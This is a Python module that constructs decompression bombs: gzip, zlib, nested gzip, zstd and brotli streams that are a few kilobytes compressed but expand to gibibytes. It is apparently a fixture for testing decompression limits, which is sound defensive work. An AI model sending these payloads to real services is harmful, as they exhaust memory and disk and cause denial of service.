"""Little that becomes much: zeros in each coding, and codings in codings, made without ever being inflated here."""

import gzip
import struct
import zlib
from collections.abc import Callable
from functools import cache

MIB = 1 << 20
GIB = 1 << 30
_HEAD = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"


def _deflated(front: bytes, size: int) -> bytes:
    """Raw deflate of a text and zeros, size a multiple of 1 MiB.

    A block that was flushed whole means the same wherever it stands, so one block of zeros serves for all.
    """
    first, packer = zlib.compressobj(9, wbits=-15), zlib.compressobj(9, wbits=-15)
    start = first.compress(front) + first.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + zeros * (size // MIB) + zlib.compressobj(9, wbits=-15).flush()


def _sum(add: Callable[..., int], front: bytes, size: int) -> int:
    block, value = bytes(MIB), add(front)
    for _ in range(size // MIB):
        value = add(block, value)
    return value


@cache
def gzip_bomb(front: bytes, size: int = GIB) -> bytes:
    return (
        _HEAD
        + _deflated(front, size)
        + struct.pack("<II", _sum(zlib.crc32, front, size), (len(front) + size) & 0xFFFFFFFF)
    )


@cache
def zlib_bomb(front: bytes, size: int = GIB) -> bytes:
    return b"\x78\x9c" + _deflated(front, size) + struct.pack(">I", _sum(zlib.adler32, front, size))


@cache
def gzip_of_gzip(size: int = 8 * GIB) -> bytes:
    """The checksum of so much would take long; it stands where no reader arrives."""
    return gzip.compress(_HEAD + _deflated(b"", size) + bytes(8), 9)


def zstd_bomb(size: int = GIB) -> bytes:
    """RFC 8878: a frame of RLE blocks of 128 KiB, four bytes each."""
    blocks = size >> 17
    rle = [struct.pack("<I", (1 << 17) << 3 | 1 << 1 | (number == blocks - 1))[:3] + b"0" for number in range(blocks)]
    return b"\x28\xb5\x2f\xfd\x00\x38" + b"".join(rle)


def brotli_bomb(size: int = GIB) -> bytes:
    """RFC 7932: meta-blocks of 16 MiB, each of one literal, which one command copies onwards from a distance of one."""
    bits: list[tuple[int, int]] = [(0, 1)]  # a window of 16 bits
    for _ in range(size >> 24):
        bits += [(0, 1), (2, 2), ((1 << 24) - 1, 24), (0, 1)]  # not last, six nibbles of length - 1, compressed
        bits += [(0, 3), (0, 2), (0, 4), (0, 2), (0, 2)]  # one block type each, no postfix, no direct, one tree each
        bits += [(1, 2), (0, 2), (ord("0"), 8)]  # every literal is "0"
        bits += [(1, 2), (0, 2), (399, 10)]  # every command: insert 1, copy 2118 and what 24 bits say
        bits += [(1, 2), (0, 2), (16, 6)]  # every distance: 1 and what one bit says
        bits += [((1 << 24) - 1 - 2118, 24), (0, 1)]
    bits += [(3, 2)]  # last and empty
    value = place = 0
    for number, width in bits:
        value |= number << place
        place += width
    return value.to_bytes((place + 7) // 8, "little")
